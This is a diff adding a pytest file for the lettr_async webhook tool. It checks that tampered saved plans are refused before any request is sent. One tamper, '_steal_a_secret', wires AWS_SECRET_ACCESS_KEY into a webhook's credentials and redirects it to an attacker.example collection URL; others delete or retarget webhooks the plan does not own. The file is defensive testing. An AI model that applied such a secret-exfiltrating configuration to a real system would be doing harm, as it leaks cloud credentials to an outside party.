@@ -1,0 +1,173 @@
+"""A saved plan is a review artifact: tampered plans are refused before anything is sent.
+
+Each tampering from issue 19 is applied by the real ``lettr-webhooks`` process
+(``python -m lettr_async apply plan.json``) against a threaded FakeLettr; the
+plan itself is made in-process, which is cheaper and makes the same file.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import attrs
+import pytest
+
+from lettr_async.declarative import Action, Change, ConfigError, Plan, PlanError
+from lettr_async.testing import FakeLettr
+from tests.cli._helpers import invoke_cli
+from tests.helpers import API_KEY, make_client, writes
+
+from ._util import ENV, load, write_config
+
+HOST = "https://shop.example.com"
+TIMEOUT = 60
+Tamper = Callable[[dict[str, Any], dict[str, Any], Path], None]
+
+
+def _orders(document: dict[str, Any]) -> dict[str, Any]:
+    (change,) = [c for c in document["resource_changes"] if c["name"] == "shop-orders"]
+    assert isinstance(change, dict)
+    return change
+
+
+def _delete_outside_ownership(document: dict[str, Any], other: dict[str, Any], _: Path) -> None:
+    assert document["prune"] is False
+    document["resource_changes"].insert(
+        0,
+        {
+            "address": f'live["{other["id"]}"]',
+            "matched_by": "ownership",
+            "id": other["id"],
+            "name": other["name"],
+            "url": other["url"],
+            "change": {
+                "actions": ["delete"],
+                "before": other,
+                "after": None,
+                "changed_fields": [],
+                "credentials": {"send": False, "reason": None},
+            },
+            "config": None,
+        },
+    )
+    document["summary"]["delete"] += 1
+
+
+def _update_another_id(document: dict[str, Any], other: dict[str, Any], _: Path) -> None:
+    change = _orders(document)
+    change["id"] = other["id"]
+    change["change"]["before"] = other
+
+
+def _steal_a_secret(document: dict[str, Any], _: dict[str, Any], __: Path) -> None:
+    change = _orders(document)
+    change["config"]["credentials"]["auth_password"] = {"env": "AWS_SECRET_ACCESS_KEY"}
+    change["url"] = change["change"]["after"]["url"] = "https://attacker.example/collect"
+
+
+def _lock_elsewhere(document: dict[str, Any], _: dict[str, Any], tmp_path: Path) -> None:
+    document["lock_file"] = str(tmp_path / "victim.json")
+
+
+@pytest.mark.parametrize(
+    ("tamper", "expected"),
+    [
+        (_delete_outside_ownership, "is not what lettr-webhooks.toml plans now"),
+        (_update_another_id, "is not what lettr-webhooks.toml plans now"),
+        (_steal_a_secret, "reads environment variable AWS_SECRET_ACCESS_KEY, which"),
+        (_lock_elsewhere, "names a lock file that is not beside its config file"),
+    ],
+    ids=["delete-outside-ownership", "update-another-id", "steal-a-secret", "lock-elsewhere"],
+)
+def test_a_tampered_saved_plan_is_refused_and_nothing_is_sent(
+    fake_thread: FakeLettr,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    tamper: Tamper,
+    expected: str,
+) -> None:
+    fake_thread.add_webhook(name="shop-orders", url=f"{HOST}/hooks/orders", events=["open"])
+    other = fake_thread.add_webhook(name="team-b-billing", url="https://team-b.example/billing")
+    victim = tmp_path / "victim.json"
+    victim.write_text("precious\n")
+    monkeypatch.chdir(tmp_path)
+    write_config(tmp_path)
+    made = invoke_cli(fake_thread.base_url, "plan", "-out", "plan.json", env=ENV)
+    assert made.exit_code == 0, made.output
+    document = json.loads((tmp_path / "plan.json").read_text())
+    (live_other,) = [w for w in document["live_state"]["webhooks"] if w["id"] == other["id"]]
+    tamper(document, live_other, tmp_path)
+    (tmp_path / "plan.json").write_text(json.dumps(document))
+
+    env = {k: v for k, v in os.environ.items() if not k.startswith("LETTR_")}
+    env.update(ENV, LETTR_BASE_URL=fake_thread.base_url, LETTR_API_KEY=API_KEY)
+    env["AWS_SECRET_ACCESS_KEY"] = "aws-secret-value-123"
+    result = subprocess.run(
+        [sys.executable, "-m", "lettr_async", "apply", "plan.json"],
+        capture_output=True,
+        text=True,
+        timeout=TIMEOUT,
+        env=env,
+        cwd=tmp_path,
+        check=False,
+    )
+    assert result.returncode == 2, (result.stdout, result.stderr)
+    assert result.stderr.startswith("error: ")
+    assert expected in result.stderr
+    assert "Traceback" not in result.stderr
+    assert writes(fake_thread) == []
+    assert victim.read_text() == "precious\n"
+    assert "aws-secret-value-123" not in result.stdout + result.stderr
+
+
+def _saved(plan: Plan) -> dict[str, Any]:
+    document: dict[str, Any] = json.loads(plan.to_json())
+    return document
+
+
+@pytest.mark.anyio
+async def test_python_apply_of_an_edited_saved_plan_sends_nothing(
+    fake: FakeLettr, tmp_path: Path
+) -> None:
+    write_config(tmp_path)
+    desired = load(tmp_path / "lettr-webhooks.toml")
+    async with make_client(fake) as client:
+        document = _saved(await client.webhooks.plan(desired))
+        document["resource_changes"][0]["change"]["after"]["enabled"] = False
+        edited = Plan.from_dict(document, env=ENV)
+        with pytest.raises(ConfigError, match="is not what") as info:
+            await client.webhooks.apply(edited)
+    assert "resource_changes[" in " ".join(info.value.errors["plan"])
+    assert writes(fake) == []
+
+
+@pytest.mark.anyio
+async def test_apply_enforces_the_rules_on_any_plan(fake: FakeLettr, tmp_path: Path) -> None:
+    ours = fake.add_webhook(name="shop-orders", url=f"{HOST}/hooks/orders", events=["open"])
+    theirs = fake.add_webhook(name="team-b-billing", url="https://team-b.example/billing")
+    desired = load(write_config(tmp_path))
+    async with make_client(fake) as client:
+        plan = await client.webhooks.plan(desired)
+        (update,) = [c for c in plan.changes if c.webhook_id == ours["id"]]
+        assert update.action is Action.UPDATE
+        victim = next(w for w in plan.live if w.id == theirs["id"])
+        delete = Change(Action.DELETE, "x", "ownership", victim.id, victim, None)
+        retargeted = attrs.evolve(update, webhook_id=theirs["id"], before=victim)
+        for changes, message in [
+            ((delete,), "the plan was made without prune"),
+            ((retargeted,), "which the entry does not match"),
+        ]:
+            with pytest.raises(PlanError) as info:
+                await client.webhooks.apply(attrs.evolve(plan, changes=changes))
+            assert message in " ".join(m for ms in info.value.errors.values() for m in ms)
+        pruning = attrs.evolve(plan, changes=(delete,), prune=True)
+        with pytest.raises(PlanError, match="breaks the rules") as info:
+            await client.webhooks.apply(pruning)
+        assert "outside the file's [ownership]" in " ".join(info.value.errors["x"])
+    assert writes(fake) == []
